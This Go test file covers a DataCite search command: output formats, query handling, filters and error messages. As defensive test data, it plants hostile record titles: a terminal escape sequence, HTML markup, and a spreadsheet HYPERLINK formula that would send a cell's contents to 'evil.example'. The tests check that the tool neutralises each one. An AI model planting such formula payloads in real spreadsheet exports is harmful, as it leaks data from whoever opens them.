package search_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/datacite-go/datacite-go/cmd/datacite/internal/search"
	"github.com/datacite-go/datacite-go/cmd/datacite/internal/shell/shelltest"
	"github.com/datacite-go/datacite-go/cmd/datacite/internal/table"
	"github.com/datacite-go/datacite-go/datacitetest"
)

func service(t *testing.T) *datacitetest.Server {
	t.Helper()
	srv := shelltest.Serve(t, nil)
	for _, record := range []string{
		`{"doi":"10.5072/length","created":"2020-01-01","publicationYear":2020,"citationCount":3,"titles":[{"title":"Glacier length"}],
			"creators":[{"name":"Lovelace, Ada"},{"name":"Hopper, Grace"}],"types":{"resourceTypeGeneral":"Dataset"},"publisher":"Ice Archive"}`,
		`{"doi":"10.5072/area","created":"2021-01-01","publicationYear":2021,"citationCount":8,"titles":[{"title":"Glacier area, \"raw\""}],
			"types":{"resourceTypeGeneral":"Dataset"}}`,
		`{"doi":"10.5072/evil","created":"2022-01-01","titles":[{"title":"Red ` +
			`\u001b[31m\nalert"}],"types":{"resourceTypeGeneral":"Software"}}`,
	} {
		require.NoError(t, srv.PutRecordJSON([]byte(record)))
	}
	return srv
}

// find runs the command and returns what it prints.
func find(t *testing.T, srv *datacitetest.Server, args ...string) (code int, out, notes string) {
	t.Helper()
	return shelltest.Anonymous(srv).Do(t, search.Command, append([]string{"search"}, args...)...)
}

func TestTable(t *testing.T) {
	srv := service(t)
	code, out, notes := find(t, srv, "--sort", "-citation-count", "glacier")
	assert.Zero(t, code)
	assert.Equal(t, "DOI\tYEAR\tTYPE\tCITED\tCREATORS\tTITLE\n"+
		"10.5072/area\t2021\tDataset\t8\t\tGlacier area, \"raw\"\n"+
		"10.5072/length\t2020\tDataset\t3\tLovelace, Ada; Hopper, Grace\tGlacier length\n", out)
	assert.Regexp(t, `^2 of 2 records at 127\.0\.0\.1:\d+\n$`, notes)

	_, out, _ = find(t, srv, "--type", "software")
	assert.NotContains(t, out, "\x1b", "what controls a terminal")
	assert.Contains(t, out, "Red [31m alert\n")
}

func TestJSONLines(t *testing.T) {
	srv := service(t)
	code, out, notes := find(t, srv, "--json", "--all")
	assert.Zero(t, code)
	assert.Contains(t, notes, "3 of 3 records at ")
	lines := strings.Split(strings.TrimSpace(out), "\n")
	require.Len(t, lines, 3)
	assert.Contains(t, lines[0], `"doi":"10.5072/length"`)

	_, out, notes = find(t, srv, "--quiet", "--format", "json", "glacier")
	assert.Equal(t, 2, strings.Count(out, "\n"), "records were asked for")
	assert.Empty(t, notes)
}

// A page shows what was found by year, type and licence, whatever the format of the records is.
func TestPage(t *testing.T) {
	srv := service(t)
	for i := range 600 {
		require.NoError(t, srv.PutRecordJSON(fmt.Appendf(nil,
			`{"doi":"10.5072/n%d","publicationYear":%d,"titles":[{"title":"<b>Snow %[1]d</b>"}],
			"creators":[{"name":"A"},{"name":"B"},{"name":"C"},{"name":"D"}],"types":{"resourceTypeGeneral":"Image"},"rightsList":[{"rights":"CC","rightsIdentifier":"cc-by-4.0"}]}`, i, 1990+i%25)))
	}
	folder := t.TempDir()
	html := filepath.Join(folder, "records.html")
	read := func() string { return strings.Join(strings.Fields(string(shelltest.Read(t, html))), " ") }
	for _, format := range []string{"table", "json", "csv"} {
		code, _, notes := find(t, srv, "--all", "--format", format, "--prefix", "10.5072", "--html", html)
		assert.Zero(t, code, notes)
		assert.Contains(t, notes, html+" is written\n")
		page := read()
		for _, part := range []string{
			"<h1>prefix 10.5072</h1>", "603 records at <b>127.0.0.1",
			`<th scope="row" class="value">Image</th><td class="n">600</td><td class="n">over 99 %</td>`,
			`<th scope="row" class="value">cc-by-4.0</th><td ` +
				`class="n">600</td>`, `<th scope="row" class="value">(none)</th><td class="n">3</td>`,
			`<th scope="row" class="value">2014</th><td class="n">` +
				`24</td>`, `<th scope="row" class="value">(others)</th><td class="n">169</td>`,
			"The first 500 are shown", "&lt;b&gt;Snow 1&lt;/b&gt;", "A; B; C; and others",
		} {
			assert.Contains(t, page, part, format)
		}
		assert.Equal(t, 500, strings.Count(page, `class="doi"`))
		assert.NotContains(t, page, "<script")
	}
	_, _, notes := find(t, srv, "glacier", "--limit", "1", "--html", html)
	assert.Contains(t, notes, "1 of 2 records")
	assert.Contains(t, read(), "This page has 1 of them; with --all, it has all.")
	_, _, _ = find(t, srv, "nothing-has-this", "--html", html)
	assert.Contains(t, read(), "<h1>nothing-has-this</h1> <p class=\"soft\">0 records at")
	for _, args := range [][]string{{"--html", "-"},
		{"--html", filepath.Join(folder, "x"), "--output", filepath.Join(folder, "x")}, {"--html", folder}} {
		code, _, notes := find(t, srv, args...)
		assert.Equal(t, 2, code, notes)
	}
}

// Flags may come after the query, with words on both sides of them.
func TestFlagsAfterTheQuery(t *testing.T) {
	srv := service(t)
	_, out, notes := find(t, srv, "glacier", "--limit", "1", "--json", "raw")
	assert.Contains(t, out, "10.5072/area")
	assert.Contains(t, notes, "1 of 1 record at ")
	_, out, notes = find(t, srv, "--json", "glacier", "--", "-area")
	assert.Contains(t, out, "10.5072/area", "what comes after -- is a word")
	assert.Contains(t, notes, "note: -area is looked for as it is; --query reads operators and fields")
}

// The tables are those that other commands read, and a stranger's title is no formula of whoever
// opens one.
func TestTablesForOthers(t *testing.T) {
	srv := service(t)
	require.NoError(t, srv.PutRecordJSON(
		[]byte(`{"doi":"10.5072/formula","publisher":"P","publicationYear":2020,`+
			`"titles":[{"title":"=HYPERLINK(\"https://evil.example/?\"&A1)"}],"creators":[{"name":"@Love, `+
			`Ada"}],"types":{"resourceTypeGeneral":"Dataset"}}`)))
	_, out, notes := find(t, srv, "--format", "csv", "--query", "doi:*formula")
	assert.Contains(t, out, `"'=HYPERLINK(""https://evil.example/?""&A1)"`)
	assert.Contains(t, notes, "2 cells could be taken for a formula by a spreadsheet program, and got an apostrophe in "+
		"front")
	for _, name := range []string{"a.csv", "a.XLSX"} {
		path := filepath.Join(t.TempDir(), name)
		code, out, notes := find(t, srv, "--query", "doi:*formula", "-o", path)
		require.Zero(t, code, notes)
		assert.Empty(t, out)
		file, err := os.Open(path)
		require.NoError(t, err)
		defer file.Close()
		r, err := table.NewReader(name, file,
			&table.Options{Others: []string{"citations", "views", "downloads"}, Partial: true})
		require.NoError(t, err)
		for row, err := range r.All() {
			require.NoError(t, err)
			assert.Equal(t, `=HYPERLINK("https://evil.example/?"&A1)`, row.Record.Titles[0].Title, name)
			assert.Equal(t, []string{"0", "0", "0"}, row.Others)
		}
	}
}

// A file has those of the further columns that a record needs, and standard output all.
func TestColumnsOfAFile(t *testing.T) {
	srv := service(t)
	common := "\ufeffdoi,url,state,title,creators,publisher,year,type,description,subjects,rights,language,related " +
		"identifiers,dates,"
	temporary := t.TempDir()
	shelltest.SetTemp(t, temporary)
	head := func(query string, ending string) string {
		path := filepath.Join(t.TempDir(), "a"+ending)
		code, _, notes := find(t, srv, "--query", query, "-o", path)
		require.Zero(t, code, notes)
		first, _, _ := strings.Cut(string(shelltest.Read(t, path)), "\n")
		return strings.TrimSpace(first)
	}
	assert.Equal(t, common+"citations,views,downloads", head("glacier", ".csv"))
	require.NoError(t, srv.PutRecordJSON(
		[]byte(`{"doi":"10.5072/more","titles":[{"title":"Glacier"}],"version":"2","formats":["text/csv"]}`)))
	assert.Equal(t, common+"version,formats,citations,views,downloads", head("glacier", ".csv"))
	_, out, _ := find(t, srv, "--query", "glacier", "--format", "csv")
	assert.Contains(t, out, ",dates,contributors,funding,places,version,sizes,formats,alternate identifiers,citations,")
	left, err := os.ReadDir(temporary)
	require.NoError(t, err)
	assert.Empty(t, left, "temporary files")
}

func TestWords(t *testing.T) {
	srv := service(t)
	for text, want := range map[string]struct {
		found int
		note  string
	}{
		"glacier":                              {2, ""},
		"glacier length":                       {1, ""},
		"length area":                          {0, ""},
		`"area glacier" (length`:               {0, ""},
		`("glacier length`:                     {1, ""},
		"glacier AND area":                     {1, ""},
		"length OR area":                       {0, "note: OR is looked for as it is"},
		"glacier -area":                        {1, "note: -area is"},
		"glac*":                                {0, "note: glac* is"},
		"titles.title:length":                  {0, "note: titles.title:length is"},
		"10.5072/LENGTH":                       {1, ""},
		"doi: 10.5072/length.":                 {1, ""},
		"https://doi.org/10.5072/area glacier": {1, ""},
		"10.5072/area, https://doi.org/10.5072/evil": {2, ""},
	} {
		code, out, notes := find(t, srv, "--json", text)
		assert.Zero(t, code, "%s: %s", text, notes)
		assert.Equal(t, want.found, strings.Count(out, "\n"), text)
		if want.note == "" {
			assert.NotContains(t, notes, "note:", text)
		}
		assert.Contains(t, notes, want.note, text)
	}
}

func TestQueries(t *testing.T) {
	srv := service(t)
	for text, want := range map[string]int{"length area": 0, "length OR area": 2, "glacier -area": 1,
		"titles.title:glac*": 2, "doi:10.5072/are*": 1} {
		_, out, _ := find(t, srv, "--json", "--query", text)
		assert.Equal(t, want, strings.Count(out, "\n"), text)
	}
	// as in the schema, and as in the service
	for _, name := range []string{"dataset", "Dataset", "journal-article,dataset", "JournalArticle,Dataset"} {
		_, out, notes := find(t, srv, "--type", name, "--json")
		assert.Equal(t, 2, strings.Count(out, "\n"), "%s: %s", name, notes)
	}
	for args, sort := range map[string]string{"glacier": "relevance", "glacier --sort title": "title",
		"--sort -view-count": "-view-count", "--type software": "", "--all glacier": ""} {
		before := len(srv.Requests())
		find(t, srv, strings.Fields(args)...)
		assert.Equal(t, sort, srv.Requests()[before].URL.Query().Get("sort"), args)
	}
	_, out, _ := find(t, srv, "--json", "--query", "length OR area", "raw")
	assert.Equal(t, 1, strings.Count(out, "\n"), "words and query must both match")
}

// States and times of creation choose; drafts are seen with a login only.
func TestStatesAndMonths(t *testing.T) {
	for _, b := range []datacitetest.Behaviour{datacitetest.Documented, datacitetest.Deployed} {
		srv := shelltest.Serve(t, &datacitetest.Options{Behaviour: b})
		for name, member := range map[string]string{
			"a": `"created":"2026-01-01T00:00:00Z","state":"draft"`, "b": `"created":"2026-01-31T23:59:59Z","state":"draft"`,
			"c": `"created":"2026-02-01T00:00:00Z","state":"draft"`, "d": `"created":"2026-01-15",` +
				`"state":"registered"`, "e": `"created":"2026-01-15"`,
		} {
			require.NoError(t, srv.PutRecordJSON([]byte(`{"doi":"10.5072/`+name+`",`+member+`}`)))
		}
		for args, want := range map[string]string{
			"--state draft": "a b c", "--state draft,registered": "a b c d", "--state findable": "e",
			"--state draft --created 2026-01": "a b",
			"--created 2026-01":               "a b d e", "--created 2026-01-15 --state registered": "d", "--created 2026-02-01": "c", "--created 2026": "a b c d e",
			"--state draft --limit 1": "?",
		} {
			code, out, notes := shelltest.At(srv).Do(t, search.Command,
				append([]string{"search", "--format", "doi"}, strings.Fields(args)...)...)
			require.Zero(t, code, notes)
			names := strings.Fields(strings.ReplaceAll(out, "10.5072/", ""))
			if want == "?" {
				assert.Len(t, names, 1)
				continue
			}
			assert.ElementsMatch(t, strings.Fields(want), names, args)
		}
		code, out, notes := find(t, srv, "--state", "draft")
		assert.Equal(t, 2, code)
		assert.Empty(t, out)
		assert.Contains(t, notes, "--state: drafts and registered DOIs are seen by their account only")
		code, _, notes = find(t, srv, "--state", "drafts")
		assert.Equal(t, 2, code)
		assert.Contains(t, notes, `--state: "drafts" is unknown; did you mean draft?`)
	}
}

// With a wrong login the service shows what everybody sees: that would be an incomplete answer.
func TestAWrongLogin(t *testing.T) {
	for _, b := range []datacitetest.Behaviour{datacitetest.Documented, datacitetest.Deployed} {
		srv := shelltest.Serve(t, &datacitetest.Options{Behaviour: b})
		run := shelltest.At(srv)
		run.Env["DATACITE_PASSWORD"] = "wrong-one"
		code, out, notes := run.Do(t, search.Command, "search", "glacier")
		assert.Equal(t, 2, code)
		assert.Empty(t, out)
		assert.Contains(t, notes, " refuses the login of EXAMPLE.REPO")
	}
}

func TestFaults(t *testing.T) {
	srv := service(t)
	for _, tt := range []struct {
		args []string
		code int
		says string
	}{
		{[]string{"--format", "xml"}, 2,
			`--format: "xml" is not one of table, csv, xlsx, json, doi; "datacite search --help" shows the flags`},
		{[]string{"--query", `ice "open`}, 2, "\n  ice \"open\n      ^"},
		{[]string{"\U0001f600 ?!"}, 2, "can be searched: it has no letter and no digit"},
		{[]string{"--limit", "1001"}, 2, "--limit is 1001, not between 1 and 1000; --all prints all records"},
		{[]string{"--all", "glacier", "--limit", "5"}, 2, "leave one of them out"},
		{[]string{"--all", "--sort", "name"}, 2, "--all has an order of its own"},
		{[]string{"--sort", "newest"}, 2, `--sort: "newest" is not one of name, created, updated`},
		{[]string{"--sort", "-relevance"}, 2, `--sort: "-relevance" is unknown; did you mean relevance?`},
		{[]string{"--type", "datset"}, 2, `--type: "datset" is unknown; did you mean dataset?`},
		{[]string{"--json", "--format", "csv"}, 2, "--json prints JSON, and --format csv something else"},
		{[]string{"--created", "soon"}, 2, "soon"},
	} {
		code, out, notes := find(t, srv, tt.args...)
		assert.Equal(t, tt.code, code, "%v: %s", tt.args, notes)
		assert.Empty(t, strings.TrimPrefix(out, "DOI\tYEAR\tTYPE\tCITED\tCREATORS\tTITLE\n"))
		assert.Contains(t, notes, tt.says)
	}
}

// People who do not see, or see little, or have a telephone can use the page.
func TestAccessibility(t *testing.T) {
	html := filepath.Join(t.TempDir(), "records.html")
	code, _, notes := find(t, service(t), "--all", "--html", html)
	require.Zero(t, code, notes)
	shelltest.Accessible(t, shelltest.Read(t, html))
}
